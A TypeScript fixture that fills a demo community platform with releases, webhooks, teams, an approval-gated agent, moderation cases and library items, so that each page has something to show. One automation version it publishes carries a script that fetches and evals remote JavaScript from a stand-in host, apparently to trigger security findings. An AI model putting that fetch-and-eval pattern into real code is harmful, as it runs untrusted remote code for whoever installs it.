// The pages of a living instance, by name, and what is done there so that each of them has something to show.
import { allScopes } from '../../src/contract/scopes.ts'
import { required } from '../../src/runtime/untyped.ts'
import { agentOf } from '../agents.ts'
import { automationFile, orgFile, workflowFile } from '../library.ts'
import { oauthClient } from '../oauth.ts'
import { newBrowser } from '../visitors.ts'
import { home } from '../webhook-receiver.ts'
import { openedAppeal, openedCase, openedEvidence } from './moderated.ts'
import { forAdmins, forAnybody } from './pages.ts'
import { PASSWORD, type Site } from './site.ts'

/** The most talked about thing of each kind; and an app that asks for everything. */
async function addDetails({ world }: Site): Promise<void> {
  const { anonymous } = world
  const few = { sort: 'popular', per_page: 1 } as const
  const [bug, feature, post, org, blog, item, workflow] = await Promise.all([
    anonymous.bugs.list(few),
    anonymous.features.list(few),
    anonymous.posts.list(few),
    anonymous.orgs.list(few),
    anonymous.blog.list({ per_page: 1 }),
    anonymous.library.list({ ...few, kind: 'automation' }),
    anonymous.library.list({ ...few, kind: 'workflow' }),
  ])
  const { url, owner } = item.items[0]!
  const itemPath = new URL(url).pathname
  Object.assign(forAnybody, {
    bug: bug.items[0]!.url,
    feature: feature.items[0]!.url,
    post: post.items[0]!.url,
    org: org.items[0]!.url,
    'runs-compared': `${org.items[0]!.url}/compare`,
    article: blog.items[0]!.url,
    item: itemPath,
    'item-file': `${itemPath}/files/automation.json`,
    workflow: new URL(workflow.items[0]!.url).pathname,
    person: `/community/u/${owner.username}`,
    'person-comments': `/community/u/${owner.username}?show=comments`,
    'person-posts': `/community/u/${owner.username}?show=posts`,
    'person-items': `/community/u/${owner.username}?show=items`,
    'person-orgs': `/community/u/${owner.username}?show=orgs`,
  })
  const app = oauthClient(world)
  const clientId = await app.register({ client_name: 'A helper with <i>a long name</i>' })
  const asked = app.request({ clientId, scope: allScopes.join(' ') }, app.newVerifier())
  Object.assign(forAnybody, { 'on-to-the-app': `/api/auth/oauth2/authorize?${asked}&prompt=none` })
  Object.assign(forAdmins, {
    consent: `/api/auth/oauth2/authorize?${asked}`,
    report: `/report?type=post&id=${post.items[0]!.id}&back=/`,
    'bug-triage': bug.items[0]!.url,
    'feature-status': feature.items[0]!.url,
    'org-edit': `${org.items[0]!.url}/edit`,
    'item-edit': `${itemPath}/edit`,
  })
}

/** A release that closes a request, and a request with another one merged into it. */
async function addReleases({ world }: Site, email: string): Promise<void> {
  const admin = newBrowser(world)
  await admin.accounts.signIn({ email, password: PASSWORD })
  const [shipped, target, source] = (await admin.features.list({ per_page: 3 })).items
  const body = 'What is **new**, with a list:\n\n- one\n- two'
  const closes = String(shipped!.number)
  const { id } = await admin.changelog.create({ title: 'Pausing, and more', body, version: '2.4.0', closes })
  const draft = await admin.changelog.create({ title: 'What comes next', body, version: '2.5.0', draft: true })
  await admin.features.merge({ id: source!.id, into: target!.id, reason: 'The same wish' })
  const paths = { release: `/community/changelog/${id}`, merged: target!.url }
  Object.assign(forAnybody, paths)
  Object.assign(forAdmins, { 'release-edit': `${paths.release}/edit`, 'merged-admin': target!.url })
  Object.assign(forAdmins, { draft: `/community/changelog/${draft.id}`, drafts: '/community/changelog' })
}

/** What the admin follows: members and things. */
async function addFollows({ world }: Site, email: string): Promise<void> {
  const admin = newBrowser(world)
  const { user } = await admin.accounts.signIn({ email, password: PASSWORD })
  const { items } = await admin.features.list({ per_page: 3 })
  for (const { id, authorId } of items) {
    for (const one of [id, authorId]) {
      if (one !== user.id) await admin.follows.set({ id: one, state: 'following' })
    }
  }
}

/** Webhooks of the community and of an item of the admin, with deliveries that failed. */
async function addWebhooks({ world }: Site, email: string): Promise<void> {
  world.dependencies.reach = home
  const url = 'https://127.0.0.1:9/hooks/of-a-service-with-a-long-name/and-a-longer-path-below-it'
  const admin = newBrowser(world)
  await admin.accounts.signIn({ email, password: PASSWORD })
  const hook = await admin.webhooks.create({ url, description: 'Mirrors bugs', events: ['bug.created', 'bug.edited'] })
  const item = await admin.library.publish({ kind: 'workflow', visibility: 'private', file: workflowFile() })
  const itemHook = await admin.itemWebhooks.create({ url, itemId: item.id })
  for (const id of [hook.id, hook.id]) await admin.webhooks.test({ id })
  await world.app.sendWebhooks()
  Object.assign(forAdmins, {
    'admin-webhook': `/admin/webhooks/${hook.id}`,
    webhook: `/settings/webhooks/${itemHook.id}`,
    'item-webhooks': `/library/workflows/${item.slug}/webhooks`,
  })
}

/** An item of the admin that changed what it may do, with findings, a yanked version, an invitation, and one for the admin. */
async function addVersions({ world }: Site, email: string): Promise<void> {
  const { alice } = world
  const admin = newBrowser(world)
  const { user } = await admin.accounts.signIn({ email, password: PASSWORD })
  await alice.profile.setUsername({ username: 'alice' })
  const script = (text: string) => [
    { name: 'scripts/list.js', data: text },
    { name: 'CHANGELOG.md', data: '# Changelog\n\n## 0.4.0\n\n- Reads **more** sites.' },
  ]
  const first = automationFile({ version: '0.3.0', id: 'harbor-watch' }, script('return []'))
  const { id, slug } = await admin.library.publish({ kind: 'automation', visibility: 'public', file: first })
  const permissions = { steps: ['navigate'], scripts: ['list'], downloads: true }
  const changes = { version: '0.4.0', id: 'harbor-watch', permissions, site: { domains: ['berths.example'] } }
  const file = automationFile(changes, script('eval(await (await fetch("https://berths.example/x.js")).text())'))
  await admin.library.publishVersion({ id, file })
  await admin.library.yank({ id, version: '0.3.0', yanked: true, reason: 'It reads the wrong harbor' })
  await admin.library.deprecate({ id, deprecated: true, message: 'Use the board of all harbors.' })
  await admin.library.addMaintainer({ id, username: 'alice', role: 'maintainer' })
  const using = workflowFile({ unbundledAutomations: { [slug]: {}, 'no-such-board': {} } })
  const other = await alice.library.publish({ kind: 'workflow', visibility: 'public', file: using })
  const org = await alice.library.publish({ kind: 'org', visibility: 'public', file: orgFile() })
  await alice.library.addMaintainer({ id: other.id, username: required(user.username), role: 'owner' })
  const path = `/library/automations/${slug}`
  Object.assign(forAnybody, {
    'item-with-findings': path,
    'item-compare': `${path}/compare?from=0.3.0&to=0.4.0`,
    'item-version': `${path}/versions/0.3.0`,
    'item-used-by': `${path}/used-by`,
    'item-that-uses': `/library/workflows/${other.slug}`,
    'library-org': `/library/orgs/${org.slug}`,
  })
  Object.assign(forAdmins, { 'item-owners': `${path}/owners`, 'item-publishers': `${path}/publishers` })
}

/** A team of the admin with another member, items, and an invitation that waits; and an invitation of the admin to a team. */
async function addTeams({ world }: Site, email: string): Promise<void> {
  const { alice, bob } = world
  const admin = newBrowser(world)
  const { user } = await admin.accounts.signIn({ email, password: PASSWORD })
  const name = 'Night shift of the harbor, with a name that takes more than one line on a phone'.slice(0, 60)
  const team = { slug: 'night-shift', name, description: 'We keep the boards of the harbor right while others sleep.' }
  await admin.accounts.sendVerification()
  await admin.accounts.verifyEmail({ code: await world.code(email) })
  await admin.teams.create(team)
  await bob.profile.setUsername({ username: 'bob' })
  await admin.teams.invite({ slug: team.slug, username: 'alice' })
  await alice.teams.join({ slug: team.slug })
  await admin.teams.invite({ slug: team.slug, username: 'bob', role: 'owner' })
  const file = workflowFile({ name: 'Tides of the night' })
  const item = await alice.library.publish({ kind: 'workflow', visibility: 'public', team: team.slug, file })
  await alice.accounts.verifyEmail({ code: await world.code(alice.email) })
  await alice.teams.create({ slug: 'day-shift', name: 'Day shift' })
  await alice.teams.invite({ slug: 'day-shift', username: required(user.username) })
  const path = new URL(item.url).pathname
  Object.assign(forAnybody, { team: '/teams/night-shift', 'team-empty': '/teams/day-shift', 'team-item': path })
  Object.assign(forAdmins, {
    'team-edit': '/teams/night-shift/edit',
    'team-item-owners': `${path}/owners`,
    maintained: '/library?scope=maintained',
  })
}

/** An agent of the admin that asks before it publishes: what waits, what was decided, the life of its grant, and what it did. */
async function addAgent({ world }: Site, email: string): Promise<void> {
  const admin = newBrowser(world)
  const { user } = await admin.accounts.signIn({ email, password: PASSWORD })
  const bounds = { type: 'guildhall_bounds', writes: 20, ask: ['posts', 'library'], expires_in: 86_400 }
  const more = { authorization_details: JSON.stringify([bounds]) }
  const agent = await agentOf(
    world,
    { ...admin, account: async () => user },
    { name: 'Night Clerk with a longer name', more },
  )
  const waits = (write: Promise<unknown>) =>
    write.then(
      () => Promise.reject(new Error('It was made at once')),
      ({ body }: { body: { id: string } }) => body.id,
    )
  const body = 'Seen on the night shift.\n\n- one\n- two <!-- a comment -->'
  const post = await waits(agent.posts.create({ title: 'What the night brought', body }))
  const file = workflowFile({ name: 'Rounds of the night' })
  await waits(agent.library.publish({ kind: 'workflow', visibility: 'public', file }))
  const made = await waits(agent.bugs.create({ title: 'The lamp', description: 'It is out', severity: 'low' }))
  await admin.pendingActs.approve({ id: made })
  const [grant] = (await admin.signIns.list()).items
  Object.assign(forAnybody, { agent: `/community/agents?clientId=${agent.clientId}` })
  Object.assign(forAdmins, {
    approvals: '/settings/pending',
    approval: `/settings/pending/${post}`,
    'approval-made': `/settings/pending/${made}`,
    app: `/settings/apps/${required(grant).id}`,
  })
}

/** A post that is pinned, locked and solved, a bug that the admin has to do, and suggestions for it. */
async function addDecisions({ world }: Site, email: string): Promise<void> {
  const admin = newBrowser(world)
  const { user } = await admin.accounts.signIn({ email, password: PASSWORD })
  const { alice } = world
  const post = await alice.posts.create({ title: 'How do I pause a run over night?', body: 'It goes on and on.' })
  const answer = await world.bob.posts.comment({ id: post.id, body: 'Set **pause** to `22:00`, and start it again.' })
  await admin.threads.solve({ id: post.id, commentId: answer.id })
  await admin.threads.lock({ id: post.id, locked: true, reason: 'Answered' })
  const bug = await alice.bugs.create({ title: 'The lamp blinks', description: 'At night.', severity: 'low' })
  for (const { id } of [post, bug]) await admin.threads.pin({ id, pinned: true })
  await admin.threads.assign({ id: bug.id, account: user.id })
  await admin.threads.setDue({ id: bug.id, dueOn: '2026-01-31' })
  const why = { reason: 'Three members saw it', confidence: 0.8 }
  for (const severity of ['medium', 'high']) {
    await alice.suggestions.create({ operation: 'bugs.triage', input: { id: bug.id, severity }, ...why })
  }
  Object.assign(forAnybody, {
    'post-solved': `/community/posts/${post.id}`,
    'bug-assigned': `/community/bugs/${bug.id}`,
  })
  Object.assign(forAdmins, { 'post-locked': `/community/posts/${post.id}`, 'bug-decided': `/community/bugs/${bug.id}` })
}

/** A board of its own words, with a post. */
async function addBoard({ world }: Site, email: string): Promise<void> {
  const admin = newBrowser(world)
  await admin.accounts.signIn({ email, password: PASSWORD })
  const statuses = { bug: { open: 'Glowing' } }
  const board = { slug: 'night', name: 'Night shift', description: 'What goes on after dark.', statuses }
  await admin.boards.create(board)
  const post = await world.alice.posts.create({ title: 'The moon was full', body: 'So was the inbox.', board: 'night' })
  const paths = { board: '/community/boards/night', 'board-list': '/community/posts?board=night' }
  Object.assign(forAnybody, paths)
  Object.assign(forAdmins, { 'board-post': `/community/posts/${post.id}`, 'admin-board': '/admin/boards/night' })
}

/** A post and a comment that their author edited, a file of a run, and a notice of the moderators to the admin. */
async function addRest({ world }: Site, email: string): Promise<void> {
  const { alice, anonymous, moderator } = world
  const admin = newBrowser(world)
  await admin.accounts.signIn({ email, password: PASSWORD })
  const post = await alice.posts.create({ title: 'Where is the lamp?', body: 'I **saw** it yesterday.' })
  const comment = await alice.posts.comment({ id: post.id, body: 'At the pier.' })
  await alice.posts.edit({ id: post.id, title: 'Where is the lamp?', body: 'I saw it *today*.' })
  await alice.comments.edit({ id: comment.id, body: 'At the pier, I think.' })
  const mine = await admin.posts.create({ title: 'Lamps, from 9.90', body: 'Write to sales.' })
  await alice.reports.create({ targetType: 'post', targetId: mine.id, reason: 'spam' })
  const { items } = await moderator.moderation.cases({})
  const { id } = required(items.find(({ target }) => target.id === mine.id))
  await moderator.moderation.decide({ id, action: 'hide', rule: 'spam', reason: 'The same text is in five places.' })
  const [notice] = (await admin.moderation.notices({})).items
  const [org] = (await anonymous.orgs.list({ sort: 'popular', per_page: 1 })).items
  const [run] = (await anonymous.orgRuns.list({ id: required(org).slug })).items
  const file = required(required(run).files[0])
  Object.assign(forAnybody, {
    'post-history': `/community/posts/${post.id}/history`,
    'comment-history': `/community/comments/${comment.id}/history`,
    'run-file': `${required(org).url}/runs/${required(run).id}/${file.id}`,
  })
  Object.assign(forAdmins, { notice: `/moderation/notices/${required(notice).id}` })
}

/** Adds what the demo lacks, and the pages that show it; `admin` is the address of its admin. */
export async function furnish(site: Site, admin: string): Promise<void> {
  await addReleases(site, admin)
  await addDetails(site)
  await addWebhooks(site, admin)
  Object.assign(forAdmins, { case: await openedCase(site), 'case-with-evidence': await openedEvidence(site) })
  Object.assign(forAnybody, { appeal: await openedAppeal(site) })
  await addFollows(site, admin)
  await addVersions(site, admin)
  await addTeams(site, admin)
  await addAgent(site, admin)
  await addDecisions(site, admin)
  await addBoard(site, admin)
  await addRest(site, admin)
}
